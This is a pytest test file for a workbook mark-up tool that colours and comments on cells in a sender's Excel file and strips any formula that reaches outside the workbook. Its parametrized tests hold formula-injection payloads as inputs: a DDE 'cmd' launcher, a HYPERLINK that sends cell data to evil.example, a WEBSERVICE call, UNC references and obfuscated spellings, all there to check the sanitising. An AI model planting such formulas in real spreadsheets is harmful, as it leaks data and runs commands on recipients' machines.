"""Marking up a sender's own workbook: what is theirs stays theirs, what was ours is replaced, and nothing computes."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from openpyxl.worksheet.datavalidation import DataValidation

from dinhky import bootstrap
from dinhky.rounds.ports import Mark
from dinhky.wording import TemplateWords
from dinhky.workbook.cell_styles import ERROR_FILL, QUESTION_FILL
from dinhky.workbook.form import load_form
from dinhky.workbook.mark_up import mark_up
from dinhky.workbook.marking import mark, marking_job
from dinhky.workbook.refused import WorkbookRefusedError

TEXTS = TemplateWords(bootstrap.REPOSITORY / "include" / "templates" / "messages").texts(
    "marked_up",
    errors=2,
    questions=1,
    unit="Văn phòng",
    period="2026-Q1",
    file_name="a.xlsx",
    received_at=datetime(2026, 3, 12, 2, tzinfo=UTC),
)
LIST = TEXTS["name"]


def made(change: Callable[[Workbook], None] | None = None) -> bytes:
    """A workbook with two sheets, as a unit might have made it."""
    book = Workbook()
    posts = book.active
    posts.title = "Tin bài"
    for row in (["Tiêu đề", "Ngày"], ["Một", 1], ["Hai", 2], ["Ba", 3]):
        posts.append(row)
    book.create_sheet("Hoạt động của 'tổ'").append(["Hình thức"])
    if change:
        change(book)
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def error(cell: str, found: str = "Hai", needed: str = "Cần ngày", sheet: str = "Tin bài") -> Mark:
    return Mark(sheet, cell, found, needed)


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


def names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


def with_part(data: bytes, name: str, change: Callable[[str], str]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(packed, "w") as new:
        for entry in old.namelist():
            content = old.read(entry)
            new.writestr(entry, change(content.decode()).encode() if entry == name else content)
    return packed.getvalue()


def test_errors_and_questions_have_their_colours_and_comments_and_the_list_opens_first():
    marked = load_workbook(
        io.BytesIO(mark_up(made(), [error("A3"), Mark("Tin bài", "B4", "3", "Xem lại", is_question=True)], TEXTS))
    )
    assert marked.sheetnames == [LIST, "Tin bài", "Hoạt động của 'tổ'"]
    assert marked.active.title == LIST
    assert [sheet.title for sheet in marked if sheet.sheet_view.tabSelected] == [LIST]
    posts = marked["Tin bài"]
    assert [posts[cell].fill.fgColor.rgb for cell in ("A3", "B4")] == [ERROR_FILL, QUESTION_FILL]
    assert posts["A3"].comment.text == "Định Kỳ – cần sửa\nCần ngày"
    assert posts["B4"].comment.text == "Định Kỳ – đề nghị xem lại\nXem lại"
    assert (posts["A3"].value, posts["A2"].fill.fill_type, posts["A2"].comment) == ("Hai", None, None)


def test_two_marks_at_one_cell_are_one_comment_and_an_error_wins():
    both = [Mark("Tin bài", "A3", "Hai", "Xem lại", is_question=True), error("A3")]
    posts = load_workbook(io.BytesIO(mark_up(made(), both, TEXTS)))["Tin bài"]
    assert posts["A3"].comment.text == "Định Kỳ – cần sửa\nXem lại\nCần ngày"
    assert posts["A3"].fill.fgColor.rgb == ERROR_FILL


@pytest.mark.parametrize("cell", ["D3", "A9", "C12", "Z1"])
def test_a_cell_that_was_never_written_to_is_marked_in_its_place(cell):
    posts = load_workbook(io.BytesIO(mark_up(made(), [error(cell)], TEXTS)))["Tin bài"]
    assert posts[cell].fill.fgColor.rgb == ERROR_FILL
    xml = part(mark_up(made(), [error(cell), error("B3")], TEXTS), "xl/worksheets/sheet1.xml")
    rows = [int(row) for row in re.findall(r'<row r="(\d+)"', xml)]
    assert rows == sorted(rows)
    for row in re.findall(r"<row .*?</row>", xml):
        columns = re.findall(r'<c r="([A-Z]+)\d+"', row)
        assert columns == sorted(columns, key=lambda letters: (len(letters), letters))


def test_of_merged_cells_the_first_is_marked():
    data = made(lambda book: book["Tin bài"].merge_cells("A3:A4"))
    posts = load_workbook(io.BytesIO(mark_up(data, [error("A4")], TEXTS)))["Tin bài"]
    assert posts["A3"].fill.fgColor.rgb == ERROR_FILL
    assert posts["A3"].comment


def test_everything_else_is_as_its_sender_made_it():
    def change(book: Workbook) -> None:
        posts = book["Tin bài"]
        posts["A3"].fill = PatternFill("solid", fgColor="FFDDEEFF")
        posts["A3"].number_format = "dd/mm/yyyy"
        posts["C2"] = "=SUM(B2:B4)"
        posts.column_dimensions["A"].width = 44
        posts.freeze_panes = "A2"
        posts.print_title_rows = "1:1"
        posts.add_data_validation(DataValidation("list", formula1='"Một,Hai"', sqref="A2:A9"))
        book["Hoạt động của 'tổ'"].print_title_rows = "1:1"

    data = made(change)
    marked_data = mark_up(data, [error("A3")], TEXTS)
    posts = load_workbook(io.BytesIO(marked_data))["Tin bài"]
    assert posts["C2"].value == "=SUM(B2:B4)"
    assert posts["A3"].number_format == "dd/mm/yyyy"
    assert (posts.column_dimensions["A"].width, posts.freeze_panes, posts.print_title_rows) == (44, "A2", "$1:$1")
    assert len(posts.data_validations.dataValidation) == 1
    assert load_workbook(io.BytesIO(marked_data))["Hoạt động của 'tổ'"].print_title_rows == "$1:$1"
    assert part(marked_data, "xl/worksheets/sheet2.xml") == part(data, "xl/worksheets/sheet2.xml")


def test_marked_again_what_was_marked_before_is_as_it_was():
    def change(book: Workbook) -> None:
        for row in range(2, 5):
            book["Tin bài"].cell(row, 1).fill = PatternFill("solid", fgColor="FFDDEEFF")

    first = mark_up(made(change), [error("A3"), error("B2", sheet="Hoạt động của 'tổ'")], TEXTS)
    second = mark_up(first, [error("B4")], TEXTS)
    book = load_workbook(io.BytesIO(second))
    posts = book["Tin bài"]
    assert posts["A3"].fill.fgColor.rgb == "FFDDEEFF"
    assert (posts["A3"].comment, book["Hoạt động của 'tổ'"]["B2"].comment) == (None, None)
    assert posts["B4"].comment
    assert book.sheetnames == [LIST, "Tin bài", "Hoạt động của 'tổ'"]
    third = mark_up(second, [error("B4")], TEXTS)
    assert len(names(third)) == len(names(second))
    assert len(part(third, "xl/styles.xml")) == len(part(second, "xl/styles.xml"))
    assert book.defined_names == {}
    assert book[LIST].print_title_rows == "$5:$5"


def test_an_earlier_list_is_replaced_wherever_its_sender_moved_it():
    first = mark_up(made(), [error("A3")], TEXTS)
    book = load_workbook(io.BytesIO(first))
    book.move_sheet(LIST, offset=2)
    book["Tin bài"].print_title_rows = "1:1"
    saved = io.BytesIO()
    book.save(saved)
    again = load_workbook(io.BytesIO(mark_up(saved.getvalue(), [error("B3")], TEXTS)))
    assert again.sheetnames == [LIST, "Tin bài", "Hoạt động của 'tổ'"]
    assert again["Tin bài"].print_title_rows == "$1:$1"


def test_comments_of_the_sender_stay():
    def change(book: Workbook) -> None:
        book["Tin bài"]["A2"].comment = Comment("Hỏi lại chị Lan", "Tuấn")
        book["Tin bài"]["A3"].comment = Comment("Đã duyệt", "Tuấn")

    first = mark_up(made(change), [error("A3"), error("B3")], TEXTS)
    posts = load_workbook(io.BytesIO(first))["Tin bài"]
    assert [posts[cell].comment.text for cell in ("A2", "A3")] == ["Hỏi lại chị Lan", "Đã duyệt"]
    assert posts["A3"].fill.fgColor.rgb == ERROR_FILL
    assert posts["B3"].comment.author == "Định Kỳ"
    second = load_workbook(io.BytesIO(mark_up(first, [error("B4")], TEXTS)))["Tin bài"]
    assert second["B3"].comment is None
    assert [second[cell].comment.text for cell in ("A2", "A3")] == ["Hỏi lại chị Lan", "Đã duyệt"]


def test_a_sheet_with_buttons_is_coloured_and_not_commented():
    """They live in the drawing that comments need."""
    data = made(lambda book: setattr(book["Tin bài"]["A2"], "comment", Comment("Của tôi", "Tuấn")))
    drawing = next(name for name in names(data) if name.endswith(".vml"))
    data = with_part(data, drawing, lambda xml: xml.replace('ObjectType="Note"', 'ObjectType="Checkbox"'))
    marked_data = mark_up(data, [error("A3")], TEXTS)
    assert load_workbook(io.BytesIO(marked_data))["Tin bài"]["A3"].fill.fgColor.rgb == ERROR_FILL
    assert "Checkbox" in part(marked_data, drawing)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "]]><f>1</f>", 'A & "B" <c> \x07'],
)  # fmt: skip
def test_whatever_is_said_in_the_list_and_the_comments_is_text(text):
    marked = load_workbook(io.BytesIO(mark_up(made(), [Mark("Tin bài", "A3", text, text)], TEXTS)))
    row = next(marked[LIST].iter_rows(min_row=6))
    assert [cell.data_type for cell in row] == ["s"] * 5
    assert all(cell.quotePrefix for cell in row[1:])
    assert row[3].value == row[4].value == text.replace("\x07", "").strip()
    assert marked["Tin bài"]["A3"].comment.text.endswith(text.replace("\x07", "").strip())


@pytest.mark.parametrize(
    ("formula", "is_kept"),
    [
        ("=SUM(B2:B4)", True),
        ("=IF(B2>1,VLOOKUP(A2,'Tin bài'!A:B,2,0),\"\")", True),
        ('=HYPERLINK("https://evil.example/?"&A2,"Bấm")', False),
        ('=_xlfn.WEBSERVICE("https://evil.example")', False),
        ("=cmd|' /C calc'!A0", False),
        ("=[1]Sheet1!$A$1", False),
        ("='\\\\\\\\server\\\\share\\\\[a.xlsx]B'!A1", False),
    ],
)
def test_formulas_stay_unless_one_reaches_out_of_the_workbook(formula, is_kept):
    def change(book: Workbook) -> None:
        book["Tin bài"]["C2"] = "=B2*2"
        book["Tin bài"]["C3"] = formula

    data = with_part(made(change), "xl/worksheets/sheet1.xml", lambda xml: re.sub(r"<v ?/>|<v></v>", "<v>7</v>", xml))
    xml = part(mark_up(data, [error("A3")], TEXTS), "xl/worksheets/sheet1.xml")
    assert xml.count("<f>") == (2 if is_kept else 0)
    assert xml.count("<v>7</v>") == 2


def test_a_formula_is_found_however_it_is_spelled():
    data = made(lambda book: book["Tin bài"].__setitem__("C3", "=HYPERLINK(A1)"))
    for spelled in ("&#72;YPERLINK(A1)", "HYPER<!-- -->LINK(A1)", "<![CDATA[HYPERLINK(A1)]]>", "hyperlink (A1)"):
        hidden = with_part(data, "xl/worksheets/sheet1.xml", lambda xml, say=spelled: xml.replace("HYPERLINK(A1)", say))
        assert "<f" not in part(mark_up(hidden, [error("A3")], TEXTS), "xl/worksheets/sheet1.xml").replace(
            "<formula", ""
        )


def test_a_formula_is_found_in_a_sheet_whose_writer_gives_every_tag_a_prefix():
    data = made(lambda book: book["Tin bài"].__setitem__("C3", "=HYPERLINK(A1)"))
    prefixed = with_part(
        data,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(r"<(/?)(\w)", r"<\1x:\2", xml).replace(" xmlns=", " xmlns:x="),
    )
    assert "<x:f>HYPERLINK" in part(prefixed, "xl/worksheets/sheet1.xml")
    assert "HYPERLINK" not in part(mark_up(prefixed, [error("A3")], TEXTS), "xl/worksheets/sheet1.xml")


def test_a_mark_without_a_cell_is_listed():
    about = [Mark("", "", "", "Tệp theo mẫu cũ"), Mark("Không có", "", "", "Không tìm thấy trang"), error("A3")]
    listed = load_workbook(io.BytesIO(mark_up(made(), about, TEXTS)))[LIST]
    assert [(row[1].value, row[2].value) for row in listed.iter_rows(min_row=6)] == [
        ("Cả tệp", None),
        ("Không có", None),
        ("Tin bài", "A3"),
    ]
    cells = (cell for row in listed.iter_rows() for cell in row)
    assert [cell.coordinate for cell in cells if cell.hyperlink] == ["B8", "C8"]


def test_every_form_knows_the_list_for_a_sheet_that_nobody_fills_in():
    for file in (bootstrap.REPOSITORY / "include" / "templates" / "workbooks").glob("*.yaml"):
        assert LIST in load_form(file).other_sheets, file.name


def test_the_same_input_gives_the_same_bytes():
    sent = made()
    assert mark_up(sent, [error("A3")], TEXTS) == mark_up(sent, [error("A3")], TEXTS)
    assert mark(marking_job(sent, [error("A3")], TEXTS)) == mark_up(sent, [error("A3")], TEXTS)


@pytest.mark.parametrize(
    ("name", "was", "becomes"),
    [
        ("xl/workbook.xml", "spreadsheetml/2006/main", "spreadsheetml/2099/main"),
        ("xl/worksheets/sheet1.xml", 'r="A3"', 'r="3A"'),
        ("xl/worksheets/sheet1.xml", "sheetData", "sheetDaten"),
        ("xl/styles.xml", "cellXfs", "cellXfx"),
        ("xl/worksheets/sheet1.xml", "<sheetData>", "<sheetData><broken"),
    ],
)
def test_a_file_put_together_in_an_unknown_way_is_not_marked_up(name, was, becomes):
    data = with_part(made(), name, lambda xml: xml.replace(was, becomes))
    with pytest.raises(WorkbookRefusedError):
        mark_up(data, [error("A3")], TEXTS)
    workbooks = bootstrap.office(bootstrap.settings({})).workbooks
    assert workbooks.marked(data, [error("A3")], TEXTS) is None
    assert workbooks.marked(made(), [error("A3")], TEXTS) is not None, "the child lives on"


def test_a_hundred_marks_in_a_sheet_of_ten_thousand_rows_take_less_than_two_seconds():
    data = made(lambda book: [book["Tin bài"].append([f"Tin {n}", n, "x" * 50, "y"]) for n in range(10_000)])
    began = time.process_time()
    marked_data = mark_up(data, [error(f"A{row}") for row in range(100, 200)], TEXTS)
    assert time.process_time() - began < 2
    assert load_workbook(io.BytesIO(marked_data))[LIST].max_row == 105
